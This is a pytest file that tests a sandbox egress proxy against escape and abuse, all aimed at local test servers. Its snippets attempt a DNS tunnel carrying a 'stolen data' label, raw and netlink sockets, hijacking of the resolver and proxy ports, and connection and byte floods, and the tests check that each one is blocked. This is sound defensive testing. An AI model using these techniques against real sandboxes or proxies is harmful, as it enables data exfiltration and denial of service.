"""What a command can do to the proxy itself, and to others who use it."""

from __future__ import annotations

import asyncio
import os
import signal
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from tests.attacks.attack import DEADLINE_S, Attack, Plain, each, outcome_in, program, soon
from tests.attacks.reach import HOST_NETWORK, Reach, network
from tests.sandbox.egress.site import Site, running_site

from skep.sandbox.egress.gate import gate
from skep.sandbox.egress.network import Event
from skep.sandbox.egress.policy import Traffic, parse_policy
from skep.sandbox.sandbox import Sandbox

PAGE = "reached(ask(GET % (b'', b'allowed.test'), wanted=b'REACHED'), b'REACHED allowed')"
#: A plain bwrap that is root of its own namespaces.
CAPABLE = Plain(("--cap-add", "ALL", "--uid", "0", "--gid", "0"))


@pytest.fixture
async def site() -> AsyncIterator[Site]:
    async with running_site() as made:
        yield made


def text(attempt: str, port: int = 0) -> str:
    return Reach("", attempt).text(None, port=port)


# The proxy gone.


async def test_without_a_proxy_nothing_gets_out(site: Site) -> None:
    async with Sandbox.create(network=network(site)) as sandbox:
        assert (await outcome_in(sandbox, text(PAGE))).through
        pid = gate().pid
        assert pid is not None
        site.seen.clear()
        os.kill(pid, signal.SIGSTOP)  # dead to everybody, and not replaced
        try:
            assert not (await outcome_in(sandbox, text(PAGE))).through
            held = await outcome_in(sandbox, text(f"socket.create_connection(('127.0.0.1', {site.port}), 2)"))
            assert not held.through
        finally:
            os.kill(pid, signal.SIGCONT)
        assert not site.seen


# Other ways out of the sandbox than connecting.


async def test_datagrams_reach_nobody(site: Site, outside: Path) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as echo:
        echo.bind(("127.0.0.1", 0))
        echo.setblocking(False)
        attempt = """
            sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sender.settimeout(2)
            sender.connect(('127.0.0.1', PORT))
            sender.send(b'out')
            assert sender.recv(64) == b'heard'
            """

        def answer() -> None:
            data, client = echo.recvfrom(64)
            heard.append(data)
            echo.sendto(b"heard", client)

        heard: list[bytes] = []
        asyncio.get_running_loop().add_reader(echo, answer)
        try:
            port = echo.getsockname()[1]
            assert (await HOST_NETWORK.outcome(program(attempt, PORT=port), outside)).through
            async with Sandbox.create(network=network(site)) as sandbox:
                for to in (port, 443):
                    assert not (await outcome_in(sandbox, program(attempt, PORT=to))).through
        finally:
            asyncio.get_running_loop().remove_reader(echo)
        assert heard == [b"out"]


async def test_a_question_for_a_name_tells_nobody_anything(site: Site, outside: Path) -> None:
    """A tunnel needs a name server that hears the question and whose answer comes back."""
    attempt = """
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sender.settimeout(2)
        name = b''.join(bytes([len(label)]) + label for label in (b'c3RvbGVuIGRhdGE', b'tunnel', b'test'))
        question = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('!BHH', 0, 16, 1)
        sender.sendto(question, (SERVER, PORT))
        assert b'ANSWER' in sender.recv(512)
        """
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.setblocking(False)
        asked: list[bytes] = []

        def answer() -> None:
            data, client = server.recvfrom(512)
            asked.append(data)
            server.sendto(data + b"ANSWER", client)

        asyncio.get_running_loop().add_reader(server, answer)
        try:
            port = server.getsockname()[1]
            direct = program(attempt, SERVER="127.0.0.1", PORT=port)
            assert (await HOST_NETWORK.outcome(direct, outside)).through
            async with Sandbox.create(network=network(site)) as sandbox:
                for resolver in ("127.0.0.1", "8.8.8.8"):
                    held = await outcome_in(sandbox, program(attempt, SERVER=resolver, PORT=53))
                    assert not held.through, held.said
                assert not (await outcome_in(sandbox, direct)).through
        finally:
            asyncio.get_running_loop().remove_reader(server)
        assert len(asked) == 1


SOCKETS = [
    Attack("raw sockets", "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)", CAPABLE),
    Attack("packets past the routes", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)", CAPABLE),
    Attack(
        "another route",
        """
        route = struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack('=HHi', 8, 4, 1)
        netlink = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        netlink.send(struct.pack('=IHHII', 16 + len(route), 24, 0x605, 1, 0) + route)
        error = struct.unpack_from('=i', netlink.recv(4096), 16)[0]
        if error:
            raise OSError(-error, os.strerror(-error))
        """,
        CAPABLE,
    ),
    *(
        Attack(f"the place of port {port} on {address}", f"socket.create_server(({address!r}, {port}))", CAPABLE)
        for port, address in ((443, "127.0.0.1"), (80, "0.0.0.0"), (3128, "127.0.0.1"))
    ),
    Attack(
        "the place of the resolver",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(('127.0.0.1', 53))",
        CAPABLE,
    ),
]


@each(SOCKETS)
async def test_a_command_cannot_take_the_network_into_its_own_hands(attack: Attack, site: Site, outside: Path) -> None:
    async with Sandbox.create(network=network(site)) as sandbox:
        await attack.is_held(sandbox, outside)


async def test_the_socket_that_commands_the_proxy_is_out_of_reach(site: Site, outside: Path) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as server:
        server.bind(b"\0skep-test-%d" % os.getpid())
        server.listen()
        attempt = f"""
            names = [line.split()[-1] for line in open('/proc/net/unix') if '@' in line]
            found = [name for name in names if name == '@skep-test-{os.getpid()}']
            place = b'\\0' + found[0][1:].encode() if found else b'/none'
            socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect(place)
            """
        assert (await HOST_NETWORK.outcome(program(attempt), outside)).through
        async with Sandbox.create(network=network(site)) as sandbox:
            assert not (await outcome_in(sandbox, program(attempt))).through
            inside = await sandbox.run("ls -l /proc/[0-9]*/fd /proc/1/fd 2>/dev/null | grep -c 'socket:'")
            assert inside.text.strip() == "0"


# Others who use it.


async def test_one_sandbox_has_nothing_of_what_another_may(site: Site) -> None:
    async with (
        Sandbox.create(network=network(site, "denied.test")) as trusted,
        Sandbox.create(network=network(site)) as other,
    ):
        attempt = text("reached(ask(DENIED, 'denied.test'))")
        assert (await outcome_in(trusted, attempt)).through
        assert not (await outcome_in(other, attempt)).through
        address = (await trusted.run("getent ahostsv4 denied.test | head -1 | cut -d' ' -f1")).text.strip()
        assert address.startswith("198.18.")
        assert not (await outcome_in(other, text(f"reached(ask(DENIED, {address!r}))"))).through


async def test_a_policy_that_takes_a_host_away_cuts_its_connections(site: Site) -> None:
    attempt = """
        connection = tcp('allowed.test', 80)
        connection.sendall(GET % (b'', b'allowed.test'))
        reached(read(connection, b'REACHED'), b'REACHED')
        open('/workspace/ready', 'w').close()
        while not os.path.exists('/workspace/go'):
            time.sleep(0.01)
        connection.sendall(GET % (b'', b'allowed.test'))
        reached(read(connection, b'REACHED'), b'REACHED')
        """
    for allow, through in ((["allowed.test"], True), (["other.test"], False)):
        async with Sandbox.create(network=network(site)) as sandbox:
            running = asyncio.ensure_future(outcome_in(sandbox, text(attempt)))
            assert await _exists(sandbox, "/workspace/ready")
            await sandbox.set_policy(parse_policy(allow, upstreams={"allowed.test": site.address}))
            await sandbox.files.write("/workspace/go", b"")
            assert (await running).through is through


async def test_a_policy_that_takes_a_host_away_ends_what_it_is_sending(site: Site) -> None:
    """Nothing is asked anew here: the bytes of one answer are under way."""
    attempt = """
        connection = tcp('allowed.test', 80)
        connection.sendall(GET % (b'endless', b'allowed.test'))
        connection.settimeout(5)
        assert connection.recv(65536)
        open('/workspace/ready', 'w').close()
        while not os.path.exists('/workspace/go'):
            time.sleep(0.01)
        left = 64 << 20
        while left > 0:
            more = connection.recv(1 << 20)
            assert more, 'cut'
            left -= len(more)
        """
    for allow, through in ((["allowed.test"], True), (["other.test"], False)):
        async with Sandbox.create(network=network(site)) as sandbox:
            running = asyncio.ensure_future(outcome_in(sandbox, text(attempt)))
            assert await _exists(sandbox, "/workspace/ready")
            await sandbox.set_policy(parse_policy(allow, upstreams={"allowed.test": site.address}))
            await sandbox.files.write("/workspace/go", b"")
            assert (await running).through is through


async def _exists(sandbox: Sandbox, path: str) -> bool:
    """Wait for a file inside."""
    async with asyncio.timeout(DEADLINE_S):
        while not (await sandbox.run(["test", "-e", path])).ok:
            await asyncio.sleep(0.02)
    return True


# Load.


@asynccontextmanager
async def bystander(site: Site) -> AsyncIterator[Sandbox]:
    """Give another sandbox of the same proxy, and check that it is still served at the end."""
    async with Sandbox.create(network=network(site)) as sandbox:
        pid = gate().pid
        yield sandbox
        assert (await outcome_in(sandbox, text(PAGE))).through
        assert gate().pid == pid, "the proxy died of it"


async def test_a_flood_of_connections_is_bounded_and_hurts_nobody_else(site: Site) -> None:
    attempt = """
        held = []
        for _ in range(100):
            connection = tcp('allowed.test', 80)
            connection.sendall(GET % (b'silent', b'allowed.test'))
            held.append(connection)
        time.sleep(0.5)
        for connection in held:
            connection.setblocking(False)
            try:
                assert connection.recv(100) == b'', 'turned away'
            except BlockingIOError:
                pass
        """
    events: list[Event] = []
    async with bystander(site):
        for most, through in ((200, True), (50, False)):
            wanted = network(site, traffic=Traffic(connections=most), events=events)
            async with Sandbox.create(network=wanted) as sandbox:
                assert (await outcome_in(sandbox, text(attempt))).through is through
    assert {event.details["limit"] for event in events if event.kind == "limited"} == {"connections"}


@pytest.mark.parametrize(
    ("data", "port"), [("b'GET / HT'", 80), ("b'\\x16\\x03\\x01\\x02'", 443), ("b'CONNECT allo'", 3128)]
)
async def test_whoever_dawdles_loses_their_place(data: str, port: int, site: Site) -> None:
    host = "127.0.0.1" if port == 3128 else "allowed.test"
    attempt = f"""
        connection = tcp('{host}', {port})
        connection.sendall({data})
        connection.settimeout(2)
        try:
            assert connection.recv(100) is None, 'closed'
        except TimeoutError:
            pass
        """
    async with bystander(site):
        for patience_s, through in ((60.0, True), (0.5, False)):
            async with Sandbox.create(network=network(site, traffic=Traffic(head_s=patience_s))) as sandbox:
                assert (await outcome_in(sandbox, text(attempt))).through is through


async def test_a_connection_that_carries_nothing_is_closed(site: Site) -> None:
    attempt = """
        connection = tcp('allowed.test', 80)
        connection.sendall(GET % (b'', b'allowed.test'))
        reached(read(connection, b'REACHED'), b'REACHED')
        time.sleep(2.5)
        connection.sendall(GET % (b'', b'allowed.test'))
        reached(read(connection, b'REACHED'), b'REACHED')
        """
    for idle_s, through in ((60.0, True), (0.5, False)):
        async with Sandbox.create(network=network(site, traffic=Traffic(idle_s=idle_s))) as sandbox:
            assert (await outcome_in(sandbox, text(attempt))).through is through


@pytest.mark.parametrize(
    "attempt",
    [
        "assert len(ask(GET % (b'endless', b'allowed.test'), wanted=b'never')) > (1 << 20) - 100000",
        """
        connection = tcp('allowed.test', 80)
        connection.sendall(b'POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 99999999\\r\\n\\r\\n')
        for _ in range(64):
            connection.sendall(bytes(65536))
        """,
    ],
    ids=["endless answer", "endless request"],
)
async def test_traffic_past_the_limit_ends(attempt: str, site: Site) -> None:
    events: list[Event] = []
    for most, through in ((1 << 30, True), (300_000, False)):
        wanted = network(site, traffic=Traffic(bytes_total=most), events=events)
        async with Sandbox.create(network=wanted) as sandbox:
            assert (await outcome_in(sandbox, text(attempt))).through is through
    assert {event.details.get("limit") for event in events if event.kind == "limited"} == {"bytes"}


async def test_a_head_without_end_is_refused(site: Site, outside: Path) -> None:
    attempt = """
        many = b''.join(b'X-%d: %b\\r\\n' % (number, b'a' * 4000) for number in range(50))
        head = b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n' + many
        reached(ask(head + b'\\r\\n', wanted=b'REACHED'), b'REACHED')
        """
    reach = Reach("a huge head", attempt)
    assert (await HOST_NETWORK.outcome(reach.text(site), outside)).through
    site.seen.clear()
    async with bystander(site), Sandbox.create(network=network(site)) as sandbox:
        assert not (await outcome_in(sandbox, text(attempt))).through
        assert not site.seen


async def test_nonsense_neither_ends_the_proxy_nor_makes_it_talk(site: Site) -> None:
    """The control is the bystander's page through the same proxy, before and after."""
    attempt = """
        import random
        chance = random.Random(11)
        hello = bytes.fromhex('16030100') + b'\\x45' + bytes.fromhex('010000410303') + bytes(32) + bytes.fromhex(
            '00000213010100001600000012001000000d') + b'allowed.test!'
        starts = [hello, DENIED, b'CONNECT allowed.test:443 HTTP/1.1\\r\\n\\r\\n',
                  b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n',
                  b'POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nzz\\r\\n',
                  b'GET http://[ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n', b'\\0\\x05hello']
        for number in range(150):
            data = bytearray(chance.choice(starts))
            for _ in range(chance.randrange(6)):
                data[chance.randrange(len(data))] = chance.randrange(256)
            port = chance.choice((53, 80, 443, 3128, 8080))
            connection = tcp('127.0.0.1' if port == 3128 else 'allowed.test', port)
            try:
                connection.sendall(data[: chance.randrange(len(data)) + 1])
                connection.shutdown(socket.SHUT_WR)
                connection.settimeout(1)
                while connection.recv(65536):
                    pass
            except OSError:
                pass
            connection.close()
        """
    async with bystander(site), Sandbox.create(network=network(site)) as sandbox:
        assert (await outcome_in(sandbox, text(attempt))).through
        child = gate()._child
        assert child is not None
        assert child.said == ""


async def test_a_flood_of_refusals_does_not_flood_the_log(site: Site) -> None:
    attempt = """
        for _ in range(400):
            ask(DENIED, 'denied.test', wanted=b'blocked')
        """
    events: list[Event] = []
    async with bystander(site), Sandbox.create(network=network(site, events=events)) as sandbox:
        assert (await outcome_in(sandbox, text(attempt))).through
        assert await soon(lambda: len(events) >= 200)
        assert 200 <= len(events) < 400


async def test_the_proxy_stays_small_under_all_connections_at_once(site: Site) -> None:
    attempt = """
        held = []
        for _ in range(250):
            connection = tcp('allowed.test', 80)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.sendall(GET % (b'endless', b'allowed.test'))
            held.append(connection)
        open('/workspace/ready', 'w').close()
        time.sleep(3)
        """
    async with bystander(site), Sandbox.create(network=network(site)) as sandbox:
        running = asyncio.ensure_future(outcome_in(sandbox, text(attempt)))
        assert await _exists(sandbox, "/workspace/ready")
        assert _resident_bytes(gate().pid) < 200 << 20
        assert (await running).through
        assert _resident_bytes(gate().pid) < 200 << 20


def _resident_bytes(pid: int | None) -> int:
    return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")
